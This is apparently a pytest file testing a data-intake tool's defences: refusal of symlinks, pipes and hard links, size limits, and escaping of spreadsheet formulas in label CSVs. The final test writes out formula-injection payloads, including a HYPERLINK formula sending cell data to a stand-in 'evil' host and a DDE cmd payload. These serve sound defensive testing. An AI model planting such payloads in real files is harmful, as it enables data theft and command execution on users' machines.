"""Findings 9, 10 and 16 (intake): links and special files are refused unread, files over the size limits
are refused with a reason, and label cells a spreadsheet would run as formulas are escaped."""
from __future__ import annotations

import os

import pandas as pd
import pytest

from oanet.config import DataConfig, PathsConfig, SynthConfig
from oanet.intake import IntakeError, dataset_version, run

DEMO = SynthConfig(n=3, seed=1, units_per_lot=3)
SECRET = b"\x89PNG\r\n\x1a\n host secret: db password hunter2"


def _paths(tmp_path):
    return PathsConfig(raw=str(tmp_path / "raw"), incoming=str(tmp_path / "incoming"))


@pytest.fixture
def project(tmp_path):
    """A raw demo set, and an incoming folder with a label file that names every hostile entry."""
    cfg = DataConfig(settle_s=0, max_image_mb=1, max_labels_mb=1)
    run(cfg, DEMO, _paths(tmp_path), progress=False)
    (tmp_path / "incoming/images").mkdir(parents=True)
    (tmp_path / "secret.png").write_bytes(SECRET)
    return tmp_path, cfg


def _label(tmp_path, names, file="labels.csv"):
    pd.DataFrame({"image": [f"images/{n}" for n in names], "label": "1"}).to_csv(
        tmp_path / "incoming" / file, index=False)


def _everything_in_raw(tmp_path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted((tmp_path / "raw").rglob("*")) if p.is_file())


def test_symlinks_special_files_and_hard_links_are_refused_unread_and_left_in_place(project):
    tmp_path, cfg = project
    images = tmp_path / "incoming/images"
    (images / "link.png").symlink_to(tmp_path / "secret.png")
    os.mkfifo(images / "pipe.png")                     # a reader that opens it would hang
    (images / "folder.png").mkdir()
    os.link(tmp_path / "secret.png", images / "hard.png")
    (images / "ok.png").write_bytes(b"\x89PNG fine")
    _label(tmp_path, ["link.png", "pipe.png", "folder.png", "hard.png", "ok.png"])
    version = dataset_version(tmp_path / "raw")
    result = run(cfg, DEMO, _paths(tmp_path), progress=False)
    assert result.moved == 1
    reasons = "\n".join(result.rejected)
    for entry, why in [("link.png", "symbolic link"), ("pipe.png", "named pipe"), ("folder.png", "directory"),
                       ("hard.png", "hard link")]:
        assert f"images/{entry}: a {why}" in reasons
        assert os.path.lexists(images / entry), f"{entry} was not left where it was"
    assert "refused, left in incoming: 4" in result.summary()
    assert b"hunter2" not in _everything_in_raw(tmp_path)
    assert dataset_version(tmp_path / "raw") != version     # ok.png went in


def test_a_symlinked_label_file_or_layout_is_refused(project):
    tmp_path, cfg = project
    (tmp_path / "incoming/images/u1.png").write_bytes(b"\x89PNG one")
    (tmp_path / "host.csv").write_text("image,label\nimages/u1.png,1\n")
    (tmp_path / "incoming/labels.csv").symlink_to(tmp_path / "host.csv")
    result = run(cfg, DEMO, _paths(tmp_path), progress=False)
    assert result.moved == 0 and "labels.csv: a symbolic link (never followed)" in result.rejected
    (tmp_path / "incoming/labels.csv").unlink()
    _label(tmp_path, ["u1.png"])
    (tmp_path / "incoming/layout.yaml").symlink_to(tmp_path / "secret.png")
    with pytest.raises(IntakeError, match="layout.yaml: refused, a symbolic link"):
        run(cfg, DEMO, _paths(tmp_path), progress=False)
    assert b"hunter2" not in _everything_in_raw(tmp_path)


def test_files_over_the_size_limits_are_refused_with_a_reason(project):
    tmp_path, cfg = project
    images = tmp_path / "incoming/images"
    (images / "huge.png").write_bytes(b"\x89PNG" + b"\0" * (2 << 20))      # 2 MB, over data.max_image_mb = 1
    (images / "ok.png").write_bytes(b"\x89PNG fine")
    _label(tmp_path, ["huge.png", "ok.png"])
    result = run(cfg, DEMO, _paths(tmp_path), progress=False)
    assert result.moved == 1 and (images / "huge.png").is_file()
    assert "images/huge.png: 2.0 MB, over data.max_image_mb = 1" in result.rejected
    (images / "more.png").write_bytes(b"\x89PNG more")
    rows = "image,label\n" + "images/more.png,1\n" + "images/none.png,0\n" * 70000       # > 1 MB
    (tmp_path / "incoming/labels-big.csv").write_text(rows)
    result = run(cfg, DEMO, _paths(tmp_path), progress=False)
    assert result.moved == 0
    assert any(r.startswith("labels-big.csv: 1.") and "over data.max_labels_mb = 1" in r for r in result.rejected)


def test_label_cells_that_a_spreadsheet_would_run_are_escaped(project):
    tmp_path, cfg = project
    names = ["a.png", "b.png", "c.png"]
    for name in names:
        (tmp_path / "incoming/images" / name).write_bytes(b"\x89PNG " + name.encode())
    pd.DataFrame({"image": [f"images/{n}" for n in names], "label": [" 1", "=1+1", "0"],
                  "defect_type": ['=HYPERLINK("http://evil/?"&A1)', "@SUM(A1)", "Crack"],
                  "lot": ["+cmd|' /C calc'!A0", "-2+3", "LOT-7"]}).to_csv(tmp_path / "incoming/labels.csv",
                                                                           index=False)
    run(cfg, DEMO, _paths(tmp_path), progress=False)
    raw = pd.read_csv(tmp_path / "raw/labels.csv", dtype=str, keep_default_na=False).set_index("image")
    assert raw.loc["images/a.png"].tolist() == [" 1", "'=HYPERLINK(\"http://evil/?\"&A1)", "'+cmd|' /C calc'!A0"]
    assert raw.loc["images/b.png"].tolist() == ["'=1+1", "'@SUM(A1)", "'-2+3"]
    assert raw.loc["images/c.png"].tolist() == ["0", "Crack", "LOT-7"]
